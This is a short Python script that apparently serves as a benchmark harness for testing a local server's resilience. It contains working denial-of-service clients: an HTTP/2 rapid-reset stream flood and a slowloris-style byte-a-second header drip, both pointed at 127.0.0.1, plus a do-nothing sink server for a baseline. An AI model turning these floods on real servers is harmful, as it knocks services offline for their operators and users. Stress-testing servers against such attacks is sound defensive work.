"""Clients that mean harm: streams opened and reset as fast as can be, and heads that come a byte a second."""

import asyncio
import socket
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Where this comes from is told apart from where the load does: the limits for one address are not what is measured.
SOURCE = ("127.0.0.2", 0)
BATCH = 100


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def resets(port):
    """Opens and resets streams, on one connection after another."""
    authority = b"127.0.0.1"
    block = bytes([0x82, 0x84, 0x86, 0x41, len(authority)]) + authority
    while True:
        try:
            with socket.create_connection(("127.0.0.1", port), 5, SOURCE) as connection:
                connection.sendall(PREFACE + frame(4, 0, 0))
                stream = 1
                while stream < 1 << 30:
                    batch = b""
                    for _ in range(BATCH):
                        batch += frame(1, 0x5, stream, block) + frame(3, 0, stream, (8).to_bytes(4))
                        stream += 2
                    connection.sendall(batch)
                    try:
                        if not connection.recv(1 << 16, socket.MSG_DONTWAIT):
                            break
                    except BlockingIOError:
                        pass
        except OSError:
            pass


async def drip(port):
    """Sends a head at a byte a second, and begins anew when it is cut off."""
    head = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"x" * 10_000
    while True:
        try:
            _, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=SOURCE)
            for byte in head:
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1)
        except OSError:
            await asyncio.sleep(0.1)


async def drips(port, count):
    await asyncio.gather(*(drip(port) for _ in range(count)))


async def sink(port):
    """Reads everything and answers nothing: what the attackers cost by themselves."""

    async def read(reader, _):
        while await reader.read(1 << 16):
            pass

    server = await asyncio.start_server(read, "127.0.0.1", port, backlog=2048)
    await server.serve_forever()


def main():
    kind, port = sys.argv[1], int(sys.argv[2])
    if kind == "resets":
        resets(port)
    elif kind == "drips":
        asyncio.run(drips(port, int(sys.argv[3])))
    else:
        asyncio.run(sink(port))


if __name__ == "__main__":
    main()
